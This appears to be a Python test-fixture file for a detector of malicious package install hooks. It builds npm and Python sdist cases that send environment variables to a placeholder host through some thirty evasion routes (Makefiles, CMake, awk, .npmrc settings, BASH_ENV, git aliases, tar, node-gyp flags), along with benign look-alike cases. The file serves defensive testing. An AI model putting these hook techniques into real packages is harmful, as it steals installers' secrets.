"""Attacks in what tools carry out: Makefiles, CMake, perl, awk, settings of npm, and words around a shell; each mechanism was seen to run."""

from collections.abc import Mapping

from tests.evasions.case import HOST, JS_PAYLOAD, PY_PAYLOAD, SETUP, Case, package

_SENDS = f"env | curl -d @- {HOST}/in"
_SCRIPT = {"notes.txt": _SENDS + "\n"}
_SRC = {"a.c": ""}


def _hooked(
    id_: str,
    command: str,
    files: Mapping[str, bytes | str] | None = None,
    scripts: Mapping[str, str] | None = None,
    config: Mapping[str, str] | None = None,
) -> Case:
    manifest = package(scripts={"postinstall": command, **(scripts or {})}, config=config or {})
    return Case(id_, "npm", {"package.json": manifest, "index.js": "module.exports = {}\n", **(files or {})})


def _gyp(id_: str, target: str, files: Mapping[str, bytes | str] | None = None) -> Case:
    gyp = f"{{'targets': [{{'target_name': 'a', 'type': 'static_library', 'sources': ['a.c'], {target}}}]}}"
    return _hooked(id_, "node-gyp rebuild", {"binding.gyp": gyp, **_SRC, **(files or {})})


def _sdist(id_: str, code: str, files: Mapping[str, bytes | str]) -> Case:
    return Case(id_, "sdist", {"setup.py": code + SETUP, "sample/__init__.py": "", **files})


CASES: tuple[Case, ...] = (
    _hooked("make-by-a-hook", "make", {"Makefile": f"all: b\nb:\n\t{_SENDS}\n"}),
    _hooked("make-of-a-named-file", "make -f notes.txt go", {"notes.txt": f"all:\n\techo\ngo:\n\t@-{_SENDS}\n"}),
    _hooked("make-starts-node", "make -C lib", {"lib/makefile": "T = test/e\nall:\n\tnode $(T).js\n", "lib/test/e.js": JS_PAYLOAD}),
    _hooked("make-as-it-reads", "make", {"Makefile": f"X := $(shell {_SENDS})\nall:\n\techo\n"}),
    _hooked("make-by-an-assignment", "make", {"Makefile": "include rules.mk\nall:\n\techo\n", "rules.mk": f"X != {_SENDS}\n"}),
    _hooked("make-in-an-evaluated-rule", "make", {"Makefile": "define R\nall: ; sh $(1)\nendef\n$(eval $(call R,notes.txt))\n", **_SCRIPT}),
    _hooked("cmake-script", "cmake -P x.cmake", {"x.cmake": f'execute_process(COMMAND sh -c "{_SENDS}")\n'}),
    _hooked("perl-script", "perl e.pl", {"e.pl": f"system('{_SENDS}');\n"}),
    _hooked("awk-script", "awk -f e.awk", {"e.awk": f'BEGIN{{system("{_SENDS}")}}\n'}),
    _hooked("shell-in-the-settings", "npm run b", {".npmrc": "script-shell=./notes.txt\n", "notes.txt": f"#!/bin/sh\n{_SENDS}\n"}, scripts={"b": "true"}),
    _hooked("options-in-the-settings", "npm run b", {".npmrc": "node-options=--require ./test/e.js\n", "test/e.js": JS_PAYLOAD}, scripts={"b": "node -e 1"}),
    _hooked("value-of-the-manifest", 'sh -c "$npm_package_config_a"', config={"a": _SENDS}),
    _hooked("value-that-node-runs", 'node -e "$npm_package_config_a"', config={"a": JS_PAYLOAD}),
    _hooked("name-of-the-event", "node lib/$npm_lifecycle_event.txt", {"lib/postinstall.txt": JS_PAYLOAD}),
    _hooked("startup-of-bash", "BASH_ENV=./notes.txt bash -c :", _SCRIPT),
    _hooked("text-printed-to-a-shell", "sed 1d notes.txt | sh", {"notes.txt": f"Notes\n{_SENDS}\n"}),
    _hooked("text-in-place-of-code", 'node -e "$(cat notes.txt)"', {"notes.txt": JS_PAYLOAD}),
    _hooked("text-by-xargs", 'cat notes.txt | xargs -I{} sh -c "{}"', _SCRIPT),
    _hooked("found-and-run", "find notes.txt -exec sh {} \\;", _SCRIPT),
    _hooked("alias-of-git", "git -c alias.x='!sh notes.txt' x", _SCRIPT),
    _hooked("action-of-tar", 'tar cf /dev/null --checkpoint=1 --checkpoint-action=exec="sh notes.txt" index.js', _SCRIPT),
    _hooked("every-file-of-a-folder", "for f in scripts/*; do sh $f; done", {"scripts/e": _SENDS}),
    _hooked("copied-then-run", "cp notes.txt made.js && node made.js", {"notes.txt": JS_PAYLOAD}),
    _hooked("folder-left-again", "(cd a); node x.txt", {"a/x.txt": "1\n", "x.txt": JS_PAYLOAD}),
    _hooked("folder-not-entered", "false && cd a; node x.txt", {"a/x.txt": "1\n", "x.txt": JS_PAYLOAD}),
    _hooked("program-of-the-folder", "PATH=.:$PATH tool", {"tool": f"#!/bin/sh\n{_SENDS}\n"}),
    _hooked("folder-of-python", "python3 d", {"d/__main__.py": PY_PAYLOAD}),
    _hooked("customiser-of-python", "PYTHONPATH=./d python3 -c 1", {"d/sitecustomize.py": PY_PAYLOAD}),
    _hooked("inline-python-opens-a-text", "python3 -c \"exec(open('notes.txt').read())\"", {"notes.txt": PY_PAYLOAD}),
    _gyp("flag-that-make-expands", f"'cflags': ['$(shell {_SENDS})']"),
    _gyp("flag-that-the-shell-expands", f"'cflags': ['`{_SENDS}`']"),
    _gyp("module-of-a-build-file", "'variables': {'x': '<!pymod_do_main(evil)'}", {"evil.py": PY_PAYLOAD}),
    _gyp("variable-of-a-build-file", f"'variables': {{'c': '{_SENDS}'}}, 'defines': ['<!(<(c))']"),
    _sdist("make-by-setup", "import subprocess\nsubprocess.check_call(['make', 'prebuild'])\n", {"Makefile": f"all:\n\techo\nprebuild:\n\t{_SENDS}\n"}),
    Case("first-line-preloads", "npm", {"package.json": package(bin="e.js"), "index.js": "", "e.js": "#!/usr/bin/env -S node -r sample/test/e.js\nconsole.log(1)\n", "test/e.js": JS_PAYLOAD}),
)  # fmt: skip

_MAKEFILE = """CC ?= cc
VERSION := $(shell node -p "require('./package.json').version")
OBJS = $(patsubst %.c,%.o,$(wildcard src/*.c))
all: build/tool
build/tool: $(OBJS)
\tmkdir -p build && $(CC) $(CFLAGS) -o $@ $^
%.o: %.c
\t$(CC) $(CFLAGS) -c $< -o $@
publish: all
\tnpm publish && git push --tags
\tcurl -s -d token=$(NPM_TOKEN) https://deploy.sample-backend.com/v1/$(VERSION) | sh
.PHONY: all publish
"""

TWINS: tuple[Case, ...] = (
    _hooked("hook-makes-a-tool", "make || gmake", {"Makefile": _MAKEFILE, "src/a.c": "int main(void) { return 0; }\n"}),
    _hooked("makefile-that-nothing-runs", "node -v", {"Makefile": f"all:\n\t{_SENDS}\n"}),
    _hooked("hook-builds-with-cmake", "cmake -S . -B build && cmake --build build", {"CMakeLists.txt": "project(a C)\nfind_package(Threads)\nexecute_process(COMMAND git describe OUTPUT_VARIABLE V)\nadd_library(a SHARED a.c)\n", **_SRC}),
    _hooked("settings-of-a-registry", "npm run b", {".npmrc": "registry=https://registry.example/\nengine-strict=true\n"}, scripts={"b": "node -v"}),
    _hooked("value-in-a-message", 'echo "sample $npm_package_version by $npm_package_config_by"', config={"by": "Ada"}),
    _hooked("folder-of-a-build", "(cd native && node build.js) && node done.js", {"native/build.js": "require('fs').mkdirSync('out', {recursive: true})\n", "done.js": "console.log('done')\n"}),
    _hooked("text-is-printed", "cat notes.txt | head -5", {"notes.txt": "Thank you for using sample.\n"}),
    _hooked("folder-is-copied", "cp src/a.js lib/a.js && node lib/a.js", {"src/a.js": "console.log('built')\n"}),
    _gyp("flag-of-a-library", "'cflags': ['`pkg-config --cflags glib-2.0`', '$(shell pkg-config --libs glib-2.0)'], 'conditions': [['OS==\"mac\"', {}]]"),
    _sdist("setup-makes-a-library", "import subprocess\nsubprocess.check_call(['make', '-C', 'src', 'lib'])\n", {"src/Makefile": "CC = gcc\nlib: a.o\n\t$(AR) rcs liba.a $^\nclean:\n\trm -f *.o\n"}),
)  # fmt: skip
